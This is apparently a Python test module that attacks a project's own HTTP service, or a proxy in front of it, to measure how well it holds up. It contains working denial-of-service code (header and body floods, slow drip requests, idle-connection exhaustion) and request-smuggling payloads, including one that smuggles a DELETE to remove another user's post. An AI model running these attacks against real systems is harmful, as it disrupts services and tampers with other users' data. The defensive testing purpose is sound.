"""Attacks on the HTTP side of a running service: `python -m tests.attacks.http URL PID`.

The URL is that of the service or of a proxy in front of it, the PID is that of the service. Each
function attacks once and returns figures. Memory is the peak of the resident set above the value
before the attack, times are what the client observes.
"""

import itertools
import json
import re
import select
import sys
import time
from collections.abc import Callable, Iterable
from contextlib import ExitStack, suppress
from typing import NamedTuple

from .target import Target

Figures = dict[str, object]

MB = 1_000_000
MAX_WAIT_SECONDS = 40  # for a connection to be closed
HEAD = b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n"
POST = b"POST /auth/refresh HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
HANDSHAKE = (
    b"GET /ws/echo HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)


class Exchange(NamedTuple):
    sent: int  # bytes
    received: bytes
    closed_after: float | None  # seconds since the start; None if it stayed open

    def statuses(self) -> list[int]:
        return [int(code) for code in re.findall(rb"HTTP/1\.1 (\d{3}) ", self.received)]


def exchange(target: Target, parts: Iterable[bytes], wait: float = MAX_WAIT_SECONDS) -> Exchange:
    """Send the parts and read everything, until the peer closes the connection or for `wait`."""
    started = time.monotonic()
    sent, received = 0, bytearray()
    pending = iter(parts)
    part: bytes | memoryview = b""
    with target.connect() as connection:
        connection.setblocking(False)
        while time.monotonic() - started < wait:
            if not part:
                part = memoryview(next(pending, b""))
            wants_to_send = [connection] if part else []
            readable, writable, _ = select.select([connection], wants_to_send, [], 0.1)
            try:
                if writable:
                    count = connection.send(part)
                    sent, part = sent + count, part[count:]
                if readable:
                    data = connection.recv(1 << 20)
                    received += data
                    if not data:
                        return Exchange(sent, bytes(received), time.monotonic() - started)
            except (ConnectionResetError, BrokenPipeError):
                with suppress(OSError):
                    received += connection.recv(1 << 20)
                return Exchange(sent, bytes(received), time.monotonic() - started)
    return Exchange(sent, bytes(received), None)


def flood(target: Target, head: bytes, part: bytes, size: int, wait: float = 30) -> Figures:
    """Send `head` and then `part` again and again, `size` bytes in all."""
    before = target.reset_peak()
    block = part * (65536 // len(part))
    ended = exchange(
        target, itertools.chain([head], itertools.repeat(block, size // len(block))), wait
    )
    return {
        "sent MB": round(ended.sent / MB, 2),
        "memory MB": round((target.peak() - before) / MB, 1),
        "responses": len(ended.statuses()),
        "status": ended.statuses()[-1] if ended.statuses() else None,
        "closed": ended.closed_after is not None,
    }


def pipelined_requests(target: Target) -> Figures:
    return flood(target, b"", HEAD + b"\r\n", 15 * MB)


def many_headers(target: Target) -> Figures:
    return flood(target, HEAD, b"a:b\r\n", 50 * MB)


def long_header(target: Target) -> Figures:
    return flood(target, HEAD + b"a: ", b"b" * 1000, 50 * MB)


def long_request_line(target: Target) -> Figures:
    return flood(target, b"GET /", b"b" * 1000, 50 * MB)


def many_trailers(target: Target) -> Figures:
    head = POST + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
    return flood(target, head, b"a:b\r\n", 50 * MB)


def long_chunk_extension(target: Target) -> Figures:
    head = POST + b"Transfer-Encoding: chunked\r\n\r\n2;"
    return flood(target, head, b"b" * 1000, 50 * MB)


def blank_lines(target: Target) -> Figures:
    return flood(target, b"", b"\r\n", 50 * MB)


def pipelined_bodies(target: Target) -> Figures:
    body = b" " * 60_000
    request = POST + b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
    return flood(target, b"", request, 50 * MB)


def header_limits(target: Target) -> Figures:
    """Return the statuses of requests and handshakes with much and with too much in the head."""
    heads = {
        "8 KiB more": b"a: %b\r\n" % (b"b" * 8200),
        "16 KiB": b"a: %b\r\n" % (b"b" * 15_800),
        "16 KiB in 100 headers": b"".join(b"a%d: %b\r\n" % (n, b"b" * 150) for n in range(100)),
        "20 KiB": b"a: %b\r\n" % (b"b" * 20_000),
        "500 headers": b"".join(b"a%d: b\r\n" % n for n in range(500)),
    }
    statuses: Figures = {}
    for name, head in heads.items():
        request = exchange(target, [HEAD + head + b"Connection: close\r\n\r\n"], 5).statuses()
        statuses[name] = request[0] if request else None
    return statuses


def time_to_close(target: Target, parts: Iterable[bytes]) -> float | None:
    closed_after = exchange(target, parts).closed_after
    return closed_after and round(closed_after, 1)


def drip(head: bytes, part: bytes, seconds: float) -> Iterable[bytes]:
    yield head
    while True:
        time.sleep(seconds)  # the attack is to be slow
        yield part


def unfinished_requests(target: Target) -> Figures:
    """Return after how many seconds the service closes connections that wait for their client."""
    length = b"Content-Length: 100\r\n\r\n"
    return {
        "nothing": time_to_close(target, []),
        "half a head": time_to_close(target, [HEAD]),
        "a byte of the head each 0.3 s": time_to_close(target, drip(HEAD + b"a: ", b"b", 0.3)),
        "half a body": time_to_close(target, [POST + length + b"{"]),
        "half a chunk": time_to_close(
            target, [POST + b"Transfer-Encoding: chunked\r\n\r\nff\r\n{"]
        ),
        "a byte of the body each 0.3 s": time_to_close(
            target, drip(POST + b"Content-Length: 900000\r\n\r\n", b" ", 0.3)
        ),
        "blank lines after a response": time_to_close(target, drip(HEAD + b"\r\n", b"\r\n", 0.3)),
        "half a head after a response": time_to_close(target, [HEAD + b"\r\n" + HEAD]),
    }


def idle_clients(target: Target, count: int = 300) -> Figures:
    """Open idle connections; return whether another client gets a response, and how soon."""
    with ExitStack() as stack:
        for _ in range(count):
            with suppress(OSError):
                stack.enter_context(target.connect())
        started = time.monotonic()
        try:
            status = exchange(target, [HEAD + b"Connection: close\r\n\r\n"], 10).statuses()
        except OSError:
            status = []
        elapsed = time.monotonic() - started
    return {"clients": count, "status": status[0] if status else None, "seconds": round(elapsed, 1)}


def slowly(*parts: bytes) -> Iterable[bytes]:
    """Yield parts so that they are received separately."""
    for part in parts:
        yield part
        time.sleep(0.2)  # otherwise the kernel joins the parts


def upgrades(target: Target) -> Figures:
    """Return the statuses on one connection for requests with an upgrade and a request as body."""
    smuggled = b"GET /nowhere-smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
    figures: Figures = {}
    for line, protocol in itertools.product(
        [b"POST /auth/refresh", b"GET /health/live", b"OPTIONS /health/live"],
        [b"foo", b"h2c", b"websocket", b"websocket, foo"],
    ):
        body = b"\r\n" * 50_000 + smuggled
        head = line + b" HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: " + protocol
        head += b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
        ended = exchange(target, slowly(head, body), 2)
        figures[f"{line.decode()} {protocol.decode()}"] = ended.statuses()
    return figures


class Account:
    """A registered user with a post."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self.authorization = f"Bearer {target.sign_up()}"

    def post(self) -> int:
        """Create a post; return its id."""
        content = {"title": "Mine", "slug": f"mine-{time.time_ns()}"}
        response = self._target.request(
            "POST", "/posts/", content, Authorization=self.authorization
        )
        return int(str(response.json()["id"]))

    def get(self, path: str) -> int:
        return self._target.request("GET", path, Authorization=self.authorization).status


def smuggled_deletions(target: Target, tries: int = 7) -> Figures:
    """Smuggle the start of a request before the requests of a user on the proxy's connections."""
    victim = Account(target)
    deleted = 0
    for protocol in itertools.islice(itertools.cycle([b"foo", b"h2c", b"websocket"]), tries):
        post = victim.post()
        body = b"\r\n" * 100_000 + b"DELETE /posts/%d HTTP/1.1\r\nX-Ignore: " % post
        head = POST + b"Connection: Upgrade\r\nUpgrade: %b\r\n" % protocol
        exchange(target, [head + b"Content-Length: %d\r\n\r\n" % len(body) + body], 1)
        for _ in range(4):
            victim.get("/auth/me")
        deleted += victim.get(f"/posts/{post}") != 200
    return {"tries": tries, "deleted": deleted}


def control_characters(target: Target) -> Figures:
    """Return the statuses of paths with control characters beside routes that exist."""
    paths = [f"/metrics%{code}" for code in ("00", "0A", "0D%0A", "09", "7F", "C2%85")]
    paths += [
        "/health/live%0A",
        "/auth/me%0a",
        "/%0A",
        "/posts/1%0A",
        "/docs%0A",
        "/%0Ahealth/live",
    ]
    return {path: target.request("GET", path).status for path in paths}


def handshakes(target: Target) -> Figures:
    """Return the statuses of WebSocket handshakes and of requests that only look like one."""
    post = HANDSHAKE.replace(b"GET /ws/echo", b"POST /auth/refresh")
    requests = {
        "ordinary": HANDSHAKE + b"\r\n",
        "with a body": HANDSHAKE + b"Content-Length: 2\r\n\r\n{}",
        "20 KiB": HANDSHAKE + b"a: %b\r\n\r\n" % (b"b" * 20_000),
        "500 headers": HANDSHAKE + b"a: b\r\n" * 500 + b"\r\n",
        "POST": post + b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
    }
    return {name: exchange(target, [sent], 3).statuses() for name, sent in requests.items()}


ATTACKS: list[Callable[[Target], Figures]] = [
    smuggled_deletions,
    upgrades,
    handshakes,
    pipelined_requests,
    pipelined_bodies,
    many_headers,
    long_header,
    long_request_line,
    many_trailers,
    long_chunk_extension,
    blank_lines,
    header_limits,
    control_characters,
    unfinished_requests,
    idle_clients,
]


def main(url: str, pid: str, *names: str) -> None:
    """Run the attacks of these names, by default all, and print their figures."""
    target = Target(url, int(pid))
    for attack in ATTACKS:
        if not names or attack.__name__ in names:
            print(f"{attack.__name__}: {json.dumps(attack(target))}", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
